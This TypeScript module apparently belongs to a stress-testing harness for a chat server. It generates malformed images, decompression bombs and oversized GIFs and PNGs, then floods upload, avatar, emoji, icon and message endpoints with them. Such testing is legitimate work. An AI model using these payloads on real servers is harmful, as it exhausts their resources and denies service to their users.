import { crc32, deflateSync } from 'node:zlib'
import type { Attack, Attacker } from './attack.ts'
import { call, flood } from './calls.ts'

/** A square GIF with this many pixels on each side and frames of one pixel; all ASCII. */
function gif(side: number, frames: number): Buffer {
  const size = String.fromCharCode(side % 256, side >> 8)
  const frame = ',\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0'
  return Buffer.from(`GIF89a${size}${size}\0\0\0${frame.repeat(frames)};`, 'latin1')
}

function chunk(type: string, content: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type), content])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(content.length)
  sum.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, sum])
}

/**
 * A PNG of one colour, one bit a pixel: a thousandth of its unpacked size.
 *
 * @param told false sides for its header
 */
function png(width: number, height = width, told = { width, height }): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(told.width, 0)
  head.writeUInt32BE(told.height, 4)
  head.writeUInt8(1, 8)
  const rows = deflateSync(Buffer.alloc(height * (Math.ceil(width / 8) + 1)))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const square = (side: number) => ({ width: side, height: side })

/** Chunks of text that each unpack to many megabytes, before a picture of one pixel. */
function textBomb(): Buffer {
  const small = png(1)
  const text = chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(20_000_000))]))
  const head = 8 + 25
  return Buffer.concat([small.subarray(0, head), ...Array.from({ length: 40 }, () => text), small.subarray(head)])
}

/** The header of a JPEG with its size, and nothing after it. */
function jpegHead(side: number): Buffer {
  const frame = Buffer.from('ffd8ffc0001108000000000301220002110103110100', 'hex')
  frame.writeUInt16BE(side, 7)
  frame.writeUInt16BE(side, 9)
  return frame
}

/** A request that uploads a picture: to one of four places in turn, by an account that may do so. */
function sent(attacker: Attacker, turn: number, name: string, bytes: Buffer) {
  const { manager } = attacker.groups
  const [path, authorization] = (
    [
      ['/api/v1/users/me/avatar', undefined],
      [`/api/v1/realm/emoji/attack_${turn}`, manager],
      ['/api/v1/user_uploads', undefined],
      ['/api/v1/realm/icon', manager],
    ] as const
  )[turn % 4] ?? ['/api/v1/user_uploads', undefined]
  const before = `--b\r\nContent-Disposition: form-data; name="file"; filename="${turn}-${name}"\r\n\r\n`
  return {
    method: 'POST',
    path,
    ...(authorization !== undefined && { authorization }),
    headers: { 'Content-Type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([Buffer.from(before), bytes, Buffer.from('\r\n--b--\r\n')]),
  }
}

export const pictureAttacks: readonly Attack[] = [
  {
    id: 'images',
    what: 'pictures of 49 million pixels in a few bytes, and of a thousand frames: of oneself, as emoji and as icon by who may change these, and uploaded',
    run: (attacker) => {
      const [large, moving] = [gif(7000, 1), gif(112, 1000)]
      return flood(attacker, 16, (turn) =>
        sent(attacker, turn, 'x.gif', Math.floor(turn / 4) % 2 === 0 ? large : moving),
      )
    },
  },
  {
    id: 'G6',
    what: 'pictures of one pixel by fifteen million, in four loops, and custom emoji that are added and taken away',
    run: async (attacker) => {
      const [tall, small] = [png(1, 15_000_000), png(8)]
      const pictures = flood(attacker, 4, () => sent(attacker, 0, 'x.png', tall))
      // G8: deactivated emoji used to fill the organization's room for good.
      const emoji = flood(attacker, 1, (turn) => {
        const added = sent(attacker, 4 * Math.floor(turn / 2) + 1, 'x.png', small)
        return turn % 2 === 0 ? added : { method: 'DELETE', path: added.path, authorization: attacker.groups.manager }
      })
      await Promise.all([pictures, emoji])
    },
  },
  {
    id: 'bombs',
    what: 'PNGs that unpack to 50 MB of pixels, and to 800 MB of texts',
    run: (attacker) => {
      const bombs = [png(20_000), textBomb()]
      return flood(attacker, 16, (turn) =>
        sent(attacker, turn, 'x.png', bombs[Math.floor(turn / 4) % bombs.length] as Buffer),
      )
    },
  },
  {
    id: 'broken pictures',
    what: 'pictures that end too early, lie about their size, or say that they have four billion pixels',
    run: (attacker) => {
      const whole = png(4000)
      const broken: readonly Buffer[] = [
        ...[
          whole.subarray(0, whole.length - 500),
          whole.subarray(0, 40),
          png(10, 10, square(4000)),
          png(1, 1, square(2 ** 31 - 1)),
        ],
        ...[
          jpegHead(65_535),
          gif(65_535, 1),
          gif(100, 50).subarray(0, 200),
          Buffer.from('RIFF\xff\xff\xff\xffWEBPVP8 ', 'latin1'),
        ],
      ]
      return flood(attacker, 16, (turn) =>
        sent(attacker, turn, 'x.png', broken[Math.floor(turn / 4) % broken.length] as Buffer),
      )
    },
  },
  {
    id: 'shown pictures',
    what: 'a picture of 24 million pixels, uploaded again and again, shown in messages 50 times each, and its small ones, 16 at once',
    async run(attacker) {
      const picture = png(4900)
      const upload = (turn: number) => sent(attacker, turn * 4 + 2, 'x.png', picture)
      const pieces: Buffer[] = []
      await call(attacker, upload(0), (piece) => pieces.push(piece))
      // If the upload is refused, a missing image is shown.
      const path = /\/user_uploads\/[^"]+/.exec(Buffer.concat(pieces).toString())?.[0] ?? '/user_uploads/1/none/x.png'
      const small = path.replace('/user_uploads/', '/user_uploads/thumbnail/')
      const content = `[x](${path}) `.repeat(50).slice(0, 9900)
      await flood(attacker, 16, (turn) => {
        if (turn % 4 === 0) return upload(turn)
        if (turn % 4 > 1) return { method: 'GET', path: `${small}/840x560.webp` }
        const { channel } = attacker
        return {
          method: 'POST',
          path: '/api/v1/messages',
          form: { type: 'channel', to: channel, topic: 'attack', content },
        }
      })
    },
  },
]
